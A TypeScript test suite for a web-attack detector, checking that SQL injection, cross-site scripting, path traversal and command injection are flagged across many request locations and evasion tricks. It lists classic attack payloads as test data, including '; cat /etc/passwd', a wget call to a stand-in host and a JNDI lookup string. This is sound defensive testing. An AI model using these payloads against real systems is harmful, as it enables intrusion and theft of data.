import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { BROWSER, get, post, typed } from "./case-events.ts";
import { EVENT_DETECTIONS } from "./index.ts";
import { enriched } from "./test-events.ts";
import type { DetectionCase } from "../../model/detection.ts";

const found = (event: DetectionCase["event"]) =>
  EVENT_DETECTIONS.map((detection) => detection.examine(enriched(event))?.detection).filter(
    (id) => id !== undefined,
  );

const ATTACKS: readonly (readonly [id: string, text: string])[] = [
  ["sql-injection", "1' OR '1'='1"],
  ["sql-injection", "1 or 1=1"],
  ["sql-injection", "1 UNION SELECT null, version()"],
  ["sql-injection", "1; DROP TABLE users"],
  ["sql-injection", "1 AND SLEEP(5)"],
  ["sql-injection", "1 and (select count(*) from users)>0"],
  ["sql-injection", "1 waitfor delay '0:0:9'"],
  ["sql-injection", "x' into outfile '/tmp/a"],
  ["sql-injection", "1' order by 9-- "],
  ["sql-injection", "admin')--"],
  ["cross-site-scripting", "<script>alert(1)</script>"],
  ["cross-site-scripting", "<svg/onload=alert(1)>"],
  ["cross-site-scripting", "javascript:alert(1)"],
  ["cross-site-scripting", 'x" onmouseover="alert(1)'],
  ["path-traversal", "../../../../etc/passwd"],
  ["path-traversal", "..\\..\\..\\windows\\win.ini"],
  ["command-injection", "127.0.0.1; cat /etc/passwd"],
  ["command-injection", "127.0.0.1 && whoami"],
  ["command-injection", "x|wget http://e.example/a"],
  ["command-injection", "$(id)"],
  ["command-injection", "${jndi:ldap://e.example/a}"],
];

const PLACES: Readonly<Record<string, (text: string) => DetectionCase["event"]>> = {
  query: (text) => get(`/p?id=${text}`),
  "the query of a full URL": (text) => get(`https://shop.example/p?page=2&id=${text}`, BROWSER),
  "an encoded query": (text) => get(`/p?id=${encodeURIComponent(text)}`),
  "a query encoded twice": (text) => get(`/p?id=${encodeURIComponent(encodeURIComponent(text))}`),
  "an encoded query with plus signs": (text) =>
    get(`/p?id=${encodeURIComponent(text).replaceAll("%20", "+")}`),
  "a form": (text) => post("/p", `a=b&id=${encodeURIComponent(text)}`),
  "a JSON body": (text) => post("/p", JSON.stringify({ a: "b", id: text })),
  "a parsed body": (text) => post("/p", { a: "b", id: [text] }),
  "a parameter in capitals": (text) => get(`/p?id=${text.toUpperCase()}`),
  "an event that is called normal": (text) =>
    typed("normal_traffic", { url: `/p?id=${text}` }, { severity: "INFO", threat_type: "NORMAL_TRAFFIC" }),
};

describe.each(Object.entries(PLACES))("in %s", (_, place) => {
  test.each(ATTACKS)("%s finds %s", (id, text) => expect(found(place(text))).toContain(id));
});

const LOGGED = ATTACKS.filter(([id]) => id === "sql-injection" || id === "command-injection");

describe.each(["user-agent", "Referer", "COOKIE", "X-Forwarded-For"])("in the header %s", (header) => {
  test.each(LOGGED)("%s finds %s", (id, text) => {
    expect(found(get("/", { headers: { ...BROWSER.headers, [header]: text } }))).toContain(id);
  });
});

describe("padding hides nothing", () => {
  test.each(["a", " ", "'", "%20", "/*", "<", "../", "\u0000"])("of %j, in front or behind", (unit) => {
    const padding = unit.repeat(Math.ceil(100_000 / unit.length));
    for (const text of [`${padding} <script>`, `<script> ${padding}`]) {
      expect(found(post("/p", text))).toContain("cross-site-scripting");
      expect(found(get(`/p?q=${text}`))).toContain("cross-site-scripting");
    }
  });
});

test("letters' case and comments as spaces hide no injection", () => {
  const space = fc.constantFrom(" ", "  ", "\t", "%0a", "%0b", "/**/", "/*x*/", "+", "%20", "%2520", "%a0");
  fc.assert(
    fc.property(
      fc.array(space, { minLength: 5, maxLength: 5 }),
      fc.mixedCase(fc.constant("union all select null from x")),
      (spaces, sql) => {
        const words = sql.split(" ");
        const text = words.map((word, index) => `${spaces[index] ?? " "}${word}`).join("");
        expect(found(get(`/p?id=-1${text}`))).toContain("sql-injection");
      },
    ),
  );
});

test("an attacker's text cannot break the lines of a finding", () => {
  const event = typed("http_request", {
    method: "G\nET",
    url: "/\u001b[31m\u202e?id=1' or 1=1--",
    status: 200,
  });
  const finding = EVENT_DETECTIONS.find(({ id }) => id === "sql-injection")?.examine(enriched(event));
  expect(finding?.summary).toBe(
    'SQL injection in the query of "G\\u000aET" "/\\u001b[31m\\u202e": tautology, comment truncation',
  );
});
